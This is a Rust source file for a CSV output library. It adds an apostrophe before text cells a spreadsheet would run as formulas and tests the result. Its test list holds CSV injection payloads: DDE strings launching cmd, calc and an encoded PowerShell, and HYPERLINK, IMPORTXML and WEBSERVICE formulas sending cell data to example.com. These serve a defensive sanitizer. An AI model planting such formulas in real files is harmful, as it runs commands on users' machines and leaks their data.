//! Text cells that a spreadsheet would run.
//!
//! A spreadsheet that opens a CSV file takes a cell such as `=HYPERLINK(...)` for a formula, quotes or not, and customer
//! ids come from web forms. The usual answer, a leading apostrophe, is also used here, with two changes: it can be undone
//! without loss, and it is for text only. Guarding numbers is a known mistake, as `-5.00` then is a text that no one can
//! add up. What counts as dangerous follows the OWASP page "CSV Injection" and ASVS 5.0 requirement 1.2.10.

use std::borrow::Cow;

/// How text cells of a CSV file are written. Numbers and dates are never touched.
///
/// # Examples
///
/// ```
/// use rfm_output::TextGuard;
///
/// assert_eq!(TextGuard::Spreadsheet.apply("=1+1"), "'=1+1");
/// assert_eq!(TextGuard::Spreadsheet.apply("C-1001"), "C-1001");
/// assert_eq!(TextGuard::Exact.apply("=1+1"), "=1+1");
/// ```
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum TextGuard {
    /// [`guard`] every text: for people, who open the file in a spreadsheet.
    #[default]
    Spreadsheet,
    /// Every text as it is: for programs that read the file.
    Exact,
}

impl TextGuard {
    /// The text as it goes into the file.
    pub fn apply(self, text: &str) -> Cow<'_, str> {
        match self {
            TextGuard::Spreadsheet => guard(text),
            TextGuard::Exact => Cow::Borrowed(text),
        }
    }
}

/// Puts an apostrophe before a text that a spreadsheet might run; any other text is returned as it is.
///
/// Such a text begins with `=`, `+`, `-`, `@`, one of their full-width forms, tab, CR, LF or NUL. Blanks, control
/// characters and zero-width characters before the first of these are looked through, as some programs trim them. Apostrophes
/// before it are looked through as well, so that [`unguard`] always finds the text again.
///
/// # Examples
///
/// ```
/// use rfm_output::{guard, unguard};
///
/// assert_eq!(guard("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(guard("'@SUM(A1)"), "''@SUM(A1)");
/// assert_eq!(guard("O'Neill"), "O'Neill");
/// assert_eq!(unguard(&guard("'-")), "'-");
/// ```
pub fn guard(text: &str) -> Cow<'_, str> {
    if is_dangerous(text) {
        let mut guarded = String::with_capacity(text.len() + 1);
        guarded.push('\'');
        guarded.push_str(text);
        Cow::Owned(guarded)
    } else {
        Cow::Borrowed(text)
    }
}

/// Takes away what [`guard`] added: `unguard(guard(text))` is `text`, for every text.
///
/// Only for texts that went through `guard`; of others it may take an apostrophe that was theirs.
pub fn unguard(text: &str) -> Cow<'_, str> {
    match text.strip_prefix('\'') {
        Some(rest) if is_dangerous(rest) => Cow::Borrowed(rest),
        _ => Cow::Borrowed(text),
    }
}

// Apostrophes are looked through, so adding or taking one never changes the answer: this makes `guard` reversible.
fn is_dangerous(text: &str) -> bool {
    let text = text.trim_start_matches('\'');
    // Almost every text ends here.
    if text.as_bytes().first().is_none_or(u8::is_ascii_alphanumeric) {
        return false;
    }
    if text.starts_with(['\t', '\r', '\n', '\0']) {
        return true;
    }
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_zero_width(c));
    text.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

fn is_zero_width(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const DANGEROUS: &[&str] = &[
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "\0",
        "\r\n",
        "\u{ff1d}",
        "\u{ff0b}",
        "\u{ff0d}",
        "\u{ff20}",
        "=1+1",
        "=1+1\";=1+1",
        "=SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "=cmd|'/c powershell -e AAAA'!A1",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://example.com/?v=\",A1),\"//a\")",
        "=IMPORTDATA(\"http://example.com\")",
        "=IMPORTFEED(\"http://example.com\")",
        "=IMPORTHTML(\"http://example.com\",\"table\",1)",
        "=IMPORTRANGE(\"x\",\"A1\")",
        "=IMAGE(\"http://example.com/a.png\")",
        "=WEBSERVICE(\"http://example.com\")",
        "='file:///etc/passwd'#$passwd.A1",
        "=INDIRECT(\"A1\")",
        "=EXEC(\"calc\")",
        "=CALL(\"urlmon\",\"URL\")",
        "=REGISTER.ID(\"a\",\"b\")",
        "=10+20+cmd|' /C calc'!A0",
        "=-1",
        "==1",
        "=@SUM(A1)",
        "=\u{a0}1",
        "+1+cmd|' /C calc'!A0",
        "+1",
        "+49 30 1234",
        "+SUM(1,1)",
        "+cmd|' /C calc'!A0",
        "+-+-1",
        "-1",
        "-1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "-5.00",
        "--1",
        "-",
        "-SUM(A1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "@handle",
        "@=1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\0=1+1",
        "\ttext",
        "\rtext",
        "\ntext",
        " =1+1",
        "   @A1",
        "\u{a0}=1",
        "\u{3000}=1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{200e}-1",
        "\u{202e}=1",
        "\u{b}=1",
        "\u{1f}=1",
        "\u{85}=1",
        " \t=1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}A1",
        " \u{ff1d}1",
        "'=1+1",
        "''=1+1",
        "'\t",
        "' =1",
        "'-",
        "=\u{1f600}",
        "=\u{5408}\u{8a08}(A1)",
        "=\"\"",
        "=;",
        "=,",
        "=\n",
    ];

    const HARMLESS: &[&str] = &[
        "",
        " ",
        "  ",
        "'",
        "''",
        "C1001",
        "12345",
        "00012",
        "1-2",
        "a=b",
        "a@example.com",
        "O'Neill",
        "'quoted'",
        "\"=1\"",
        ";=1",
        ",=1",
        "|=1",
        "%=1",
        "(=1)",
        "(12.00)",
        "#N/A",
        "!x",
        "\u{2212}5",
        "\u{2013}",
        "\u{20ac}12",
        "\u{fc}ber",
        "\u{1f600}=",
        "x\t",
        "x\n=1",
        "5-4-3",
        "_=1",
        "/=1",
        "\\=1",
        "'x",
        "' x",
    ];

    #[test]
    fn every_payload_is_guarded_and_comes_back() {
        assert!(DANGEROUS.len() >= 60, "{}", DANGEROUS.len());
        for &payload in DANGEROUS {
            let guarded = guard(payload);
            assert!(guarded.starts_with('\'') && &guarded[1..] == payload, "{payload:?} became {guarded:?}");
            assert_eq!(unguard(&guarded), payload);
        }
    }

    #[test]
    fn other_texts_are_not_touched_or_copied() {
        for &text in HARMLESS {
            assert!(matches!(guard(text), Cow::Borrowed(same) if same == text), "{text:?}");
            assert_eq!(unguard(text), text);
        }
    }

    #[test]
    fn exact_touches_nothing() {
        for &text in DANGEROUS.iter().chain(HARMLESS) {
            assert!(matches!(TextGuard::Exact.apply(text), Cow::Borrowed(same) if same == text));
        }
        assert_eq!(TextGuard::default(), TextGuard::Spreadsheet);
    }

    /// What an attacker would choose from, much more often than chance would.
    fn nasty() -> impl Strategy<Value = String> {
        proptest::string::string_regex("['=+@ \t\r\n\0a\u{ff1d}\u{ff20}\u{a0}\u{feff}-]{0,6}.{0,3}").unwrap()
    }

    proptest! {
        #[test]
        fn guarding_is_undone(text in prop_oneof![any::<String>(), nasty()]) {
            let guarded = guard(&text);
            prop_assert_eq!(unguard(&guarded), text.as_str());
        }

        #[test]
        fn a_guarded_text_starts_no_formula(text in prop_oneof![any::<String>(), nasty()]) {
            let guarded = guard(&text);
            let first = guarded.trim_start().chars().next();
            prop_assert!(!first.is_some_and(|c| "=+-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c)), "{:?}", guarded);
        }

        #[test]
        fn different_texts_stay_different(a in nasty(), b in nasty()) {
            prop_assert_eq!(a == b, guard(&a) == guard(&b));
        }
    }
}
